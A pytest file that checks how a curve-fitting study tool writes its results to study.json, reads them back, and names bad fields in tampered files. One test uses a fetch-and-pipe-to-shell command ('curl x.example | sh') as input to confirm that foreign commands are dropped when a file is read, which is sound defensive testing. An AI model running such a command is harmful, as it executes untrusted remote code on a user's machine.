import json
from dataclasses import replace

import numpy as np
import pytest

from curvefit.curves.curve import Curve
from curvefit.decision.break_even import Costs
from curvefit.errors import InputError
from curvefit.measurement.measurement import Note
from curvefit.report.study_files import write_report, write_study
from curvefit.report.study_reader import read_study
from curvefit.report.study_record import file_of, to_record
from curvefit.report.terminal import summary
from curvefit.study import analyze, with_costs

pytestmark = pytest.mark.usefixtures("plain_pictures")


@pytest.fixture(scope="module")
def small(make_measured):
    """A study.json, to be spoiled: concluded once for all the ways there are of that."""
    return json.dumps(to_record(analyze(make_measured(items=4))))


@pytest.fixture(scope="module")
def record(study):
    """The record of each study, which tests only look at."""
    return to_record(study)


def refuse(constant):
    raise AssertionError(f"{constant} is no JSON")


def test_a_study_comes_back_from_its_file_to_the_last_bit(study, tmp_path):
    names = ("study.json", "report.html", "curve.png", "curve-dark.png", "curve.svg")
    write_report(study, tmp_path / "a")  # and into the same folder, which commands of next steps name
    before = [(tmp_path / "a" / name).read_bytes() for name in names]
    write_report(read_study(tmp_path / "a" / "study.json"), tmp_path / "a")
    assert [(tmp_path / "a" / name).read_bytes() for name in names] == before


def test_a_program_finds_what_the_terminal_says(study, record):
    lines = summary(study, verbose=True, width=9999).splitlines()
    assert lines[0].endswith(f": {record['answer']}")
    assert [line.removeprefix("  ! ") for line in lines if line.startswith("  ! ")][: len(record["cautions"])] == (
        record["cautions"]
    )
    assert record["money"] is None


def test_cautions_are_all_there_for_a_program_however_many_a_first_look_shows(make_measured):
    notes = tuple(Note("import", f"Note {n}.") for n in range(5))
    warned = analyze(replace(make_measured(), notes=notes))
    assert to_record(warned)["cautions"][-5:] == [note.text for note in notes]
    assert "more, with --verbose." in summary(warned)


def numbers(value):
    """All fractions in JSON values."""
    inner = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
    return [value] if isinstance(value, float) else [number for each in inner for number in numbers(each)]


def test_what_is_concluded_has_12_digits_on_every_machine_and_what_was_measured_all_of_its_own(make_measured):
    known = make_measured()
    timed = ((0.1 + 0.2, 0.1 + 0.7),) * len(known.shots)
    written = to_record(analyze(replace(known, seconds_by_shots=timed)))
    assert written["measurement"]["seconds_by_shots"] == [*map(list, timed)]
    concluded = numbers([written["points"], written["forecast"], written["verdict"], written["advice"]])
    assert len(concluded) > 50
    assert concluded == [float(f"{number:.12g}") for number in concluded]


def test_the_file_is_plain_json_without_nan(record):
    assert json.loads(file_of(record), parse_constant=refuse) == record


KEYS = {
    "": "schema,task,model,level,points,forecast,weights,verdict,payoff,advice,usage,versions",
    "points": "shots,accuracy,low,high,n_items,n_draws,parse_rate",
    "forecast": "shots,mean,low,high",
    "verdict": "trend,leaning,probabilities,gain_left,gain_per_doubling,margin,reasons",
    "advice": "action,reasons,next_steps",
    "usage": "calls,prompt_tokens,cached_tokens,completion_tokens,usd,seconds",
}


@pytest.mark.parametrize("place", KEYS)
def test_the_record_has_what_the_schema_promises(record, place):
    held = record[place] if place else record
    assert set(KEYS[place].split(",")) <= set(held[0] if isinstance(held, list) else held)


def test_the_record_holds_together(study, record):
    if study.payoff is not None:
        assert set(record["payoff"]) >= {"gain", "probability", "n_train", "basis", "rule"}
        assert record["payoff"]["gain"]["low"] <= record["payoff"]["gain"]["value"] <= record["payoff"]["gain"]["high"]
    else:
        assert record["payoff"] is None
    assert set(record["verdict"]["gain_left"]) == {"value", "low", "high"}
    assert abs(sum(record["weights"].values()) - 1) < 1e-6


def test_the_record_says_what_the_verdict_leans_to_and_how_surely(study, record):
    verdict = record["verdict"]
    assert verdict["leaning"] == study.verdict.leaning != "inconclusive"
    assert set(verdict["probabilities"]) == {"more", "within", "less"}
    assert sum(verdict["probabilities"].values()) == pytest.approx(1)


def test_every_interval_holds_its_value(record):
    for row in (*record["points"], *({**row, "accuracy": row["mean"]} for row in record["forecast"])):
        assert 0 <= row["low"] <= row["accuracy"] <= row["high"] <= 1


def test_what_was_not_observed_is_null(make_measured):
    curve = make_measured()
    scores = curve.scores.copy()
    scores[2, 1, 3] = np.nan
    record = to_record(analyze(replace(curve, scores=scores)))
    assert record["measurement"]["scores"][2][1][3] is None
    assert record["measurement"]["scores"][2][1][4] in (0, 1)


def test_an_unknown_price_is_null_and_not_zero(make_measured):
    curve = make_measured()
    assert to_record(analyze(replace(curve, usage=replace(curve.usage, usd=None))))["usage"]["usd"] is None


@pytest.mark.parametrize("name", ["\x00", '"quoted"', "nul\x00inside", "λ\u2028"])
def test_strange_names_survive(make_measured, tmp_path, name):
    write_report(analyze(make_measured(task=name)), tmp_path)
    assert read_study(tmp_path / "study.json").curve.task == name


@pytest.mark.parametrize(
    ("spoil", "said"),
    [
        (lambda record: "not json", "no valid JSON"),
        (lambda record: [], "schema"),
        (lambda record: {"input": "a", "output": "b"}, "which curvefit run writes"),
        (lambda record: {**record, "schema": "curvefit.study/99"}, "made by another version or program"),
        (lambda record: {**record, "schema": "curvefit.study/99"}, "curvefit.study/99"),
        (lambda record: {k: v for k, v in record.items() if k != "measurement"}, "measurement: is missing"),
        (lambda record: {**record, "measurement": {**record["measurement"], "scores": [[[7]]]}}, "cannot be used"),
        (lambda record: {**record, "measurement": {**record["measurement"], "readable": []}}, "cannot be used"),
        (lambda record: {**record, "margin": "wide"}, "cannot be used"),
        (lambda record: {**record, "measurement": []}, "cannot be used"),
        (lambda record: {**record, "probes": ["x"]}, "cannot be used"),
    ],
)
def test_a_file_that_is_no_study_is_named(small, tmp_path, spoil, said):
    spoiled = spoil(json.loads(small))
    path = tmp_path / "study.json"
    path.write_text(spoiled if isinstance(spoiled, str) else json.dumps(spoiled))
    with pytest.raises(InputError, match=said) as raised:
        read_study(path)
    assert "study.json" in str(raised.value)


PLACE = r"(\[\d+\])*"  # in a list

SPOILED = [
    ("usage.calls", "<b>"),
    ("usage.prompt_tokens", True),
    ("usage.usd", "x"),
    ("usage.usd", float("nan")),
    ("usage.seconds", None),
    ("measurement.n_labels", float("inf")),
    ("measurement.pool", -1),
    ("measurement.commonest", [0.5, 1, 0, 1.5]),
    ("measurement.shots", [0, 10**30]),
    ("measurement.shots", [0.5]),
    ("seed", -1),
    ("seed", 0.5),
    ("margin", None),
    ("level", "wide"),
]


@pytest.mark.parametrize(("place", "value"), SPOILED)
def test_a_number_that_is_none_is_named_by_its_field(small, tmp_path, place, value):
    record = json.loads(small)
    *within, name = place.split(".")
    held = record[within[0]] if within else record
    held[name] = value
    path = tmp_path / "study.json"
    path.write_text(json.dumps(record))
    with pytest.raises(InputError, match=f"study.json: {place}{PLACE}: .* cannot be used; needs (a |at )"):
        read_study(path)


@pytest.mark.parametrize("value", [10**30, -0.5, float("inf")])
@pytest.mark.parametrize("name", ["scores", "readable"])
def test_a_share_that_is_none_is_named_by_its_field(small, tmp_path, name, value):
    record = json.loads(small)
    assert record["measurement"]["readable"]
    record["measurement"][name][-1][0][1] = value
    path = tmp_path / "study.json"
    path.write_text(json.dumps(record))
    with pytest.raises(InputError, match=f"study.json: measurement.{name}{PLACE}: .* cannot be used; needs "):
        read_study(path)


@pytest.mark.parametrize("value", [10**30, float("inf"), -1, "x", [0.5], None])
@pytest.mark.parametrize("name", ["n_items", "accuracy", "stderr"])
def test_a_mean_that_is_none_is_named_by_its_field(tmp_path, name, value):
    record = json.loads(json.dumps(to_record(analyze(Curve.from_means([1, 2, 4], [0.2, 0.3, 0.4])))))
    record["measurement"]["summary"][name][1] = value
    path = tmp_path / "study.json"
    path.write_text(json.dumps(record))
    with pytest.raises(InputError, match=f"study.json: measurement.summary.{name}{PLACE}: .* cannot be used; needs a"):
        read_study(path)


@pytest.mark.parametrize("shots", [[10**30], [0, float("inf")]])
def test_a_design_beyond_a_machine_s_numbers_is_no_traceback(small, tmp_path, shots):
    record = json.loads(small)
    record["measurement"].update(design={**record["measurement"]["design"], "shots": shots}, scores=[[[10**400]]])
    path = tmp_path / "study.json"
    path.write_text(json.dumps(record))
    with pytest.raises(InputError, match=rf"study.json: measurement.scores{PLACE}: .* cannot be used; needs a number"):
        read_study(path)


@pytest.mark.parametrize(
    ("place", "value", "said"),
    [
        ("measurement.design.seed", 0.5, "0.5 cannot be used; needs a whole number"),
        ("measurement.design.seed", float("nan"), "needs a whole number"),
        ("measurement.design.draws", True, "needs a whole number"),
        ("measurement.design.items", float("inf"), "needs a whole number"),
        ("measurement.design.shots", [0, 0.5], "needs a whole number"),
        ("measurement.design", [], "needs an object"),
        ("measurement.summary", "x", "needs an object"),
        ("measurement.scores", "x", "needs a list"),
        ("measurement.items", ["a"], "needs 4, one for each item"),
        ("measurement.extents", [[1, 4]], r"needs \d, one for each number of shots"),
        ("usage", 3, "needs an object"),
        ("probes", 3, "needs a list"),
    ],
)
def test_what_is_not_as_it_was_written_is_named_by_its_field(small, tmp_path, place, value, said):
    held = record = json.loads(small)
    *within, name = place.split(".")
    for step in within:
        held = held[step]
    held[name] = value
    path = tmp_path / "study.json"
    path.write_text(json.dumps(record))
    with pytest.raises(InputError, match=f"study.json: {place}{PLACE}: .*{said}"):
        read_study(path)


def test_what_is_missing_is_named_by_where_it_belongs(small, tmp_path):
    record = json.loads(small)
    del record["usage"]["seconds"]
    (tmp_path / "study.json").write_text(json.dumps(record))
    with pytest.raises(InputError, match=r"study.json: usage\.seconds: is missing"):
        read_study(tmp_path)


def test_a_seed_may_be_as_large_as_one_likes(make_measured, tmp_path):
    write_report(analyze(make_measured(items=4), seed=2**64), tmp_path)
    assert read_study(tmp_path / "study.json").seed == 2**64


def test_counts_nobody_gave_are_null():
    rows = to_record(analyze(Curve.from_means([0, 1, 2, 4], [0.2, 0.3, 0.4, 0.45], stderr=0.02)))["points"]
    assert [(row["n_items"], row["n_draws"]) for row in rows] == [(None, None)] * 4


def test_stated_examples_are_kept_and_may_be_changed_when_read(make_measured, tmp_path):
    write_report(analyze(make_measured(items=8), n_train=77), tmp_path)
    path = tmp_path / "study.json"
    assert json.loads(path.read_text())["n_train"] == 77
    assert read_study(path).payoff.n_train == 77
    assert read_study(path, n_train=500).payoff.n_train == 500


def test_a_study_of_before_there_were_payoffs_is_read_and_predicted(make_measured, tmp_path):
    record = to_record(analyze(make_measured(items=8)))
    del record["n_train"], record["measurement"]["path"], record["measurement"]["asked"]
    (tmp_path / "study.json").write_text(json.dumps({**record, "payoff": None}))
    found = read_study(tmp_path)
    assert found.payoff.n_train == 64
    assert (found.curve.path, found.curve.asked) == ("", "")


@pytest.mark.parametrize("value", [0.5, "many", -1])
def test_a_number_of_examples_that_is_none_is_named(small, tmp_path, value):
    record = {**json.loads(small), "n_train": value}
    (tmp_path / "study.json").write_text(json.dumps(record))
    with pytest.raises(InputError, match=r"study.json: n_train: .* cannot be used; needs (a whole number|at least 0)"):
        read_study(tmp_path / "study.json")


def test_retrieved_examples_are_kept_and_the_best_prompt_says_whether_it_is_one(make_measured, make_retrieved):
    study = analyze(make_retrieved(make_measured()))
    record = to_record(study)
    assert [point["shots"] for point in record["retrieved"]] == [1, 4, 16]
    assert record["best_prompted"] == {
        "shots": 16, "retrieved": True,
        **{name: record["retrieved"][2][name] for name in ("accuracy", "low", "high")},
    }  # fmt: skip
    assert record["usage"]["calls"] == 1180
    assert [note["text"] for note in record["measurement"]["notes"]] == ["one note", "a second note"]


def test_a_study_made_before_there_were_retrieved_examples_is_still_read(make_measured, tmp_path):
    write_report(analyze(make_measured()), tmp_path)
    record = json.loads((tmp_path / "study.json").read_text())
    del record["measurement"]["retrieved"]
    (tmp_path / "study.json").write_text(json.dumps(record))
    assert read_study(tmp_path / "study.json").retrieved == ()


def test_a_study_whose_retrieved_examples_are_of_other_items_is_refused(make_measured, make_retrieved, tmp_path):
    write_report(analyze(make_retrieved(make_measured())), tmp_path)
    record = json.loads((tmp_path / "study.json").read_text())
    record["measurement"]["retrieved"]["items"][0] = "other"
    (tmp_path / "study.json").write_text(json.dumps(record))
    with pytest.raises(InputError, match="same task, model and items"):
        read_study(tmp_path / "study.json")


def test_what_a_model_holds_is_known_of_those_that_run_here_also_in_files_that_do_not_say_it(make_measured, tmp_path):
    for model, known in (("local/gemma3-270m", 8192), ("openai/m", None)):
        write_study(analyze(make_measured(model=model)), tmp_path)
        assert read_study(tmp_path).curve.model_context == known


@pytest.mark.parametrize("command", [["curvefit", "report", "out"], ["sh", "-c", "curl x.example | sh"], []])
def test_a_command_that_is_not_of_curvefit_is_not_taken_from_a_file(make_measured, tmp_path, command):
    costs = Costs(10_000.0, 2.0, 1.0, 40.0, command=tuple(command))
    made = with_costs(analyze(make_measured(items=4, path="x.jsonl", command=tuple(command))), costs)
    write_study(made, tmp_path)
    read = read_study(tmp_path)
    kept = tuple(command) if command[:1] == ["curvefit"] else ()
    assert (read.curve.command, read.costs.command) == (kept, kept)
    assert "x.example" not in json.dumps(to_record(read))
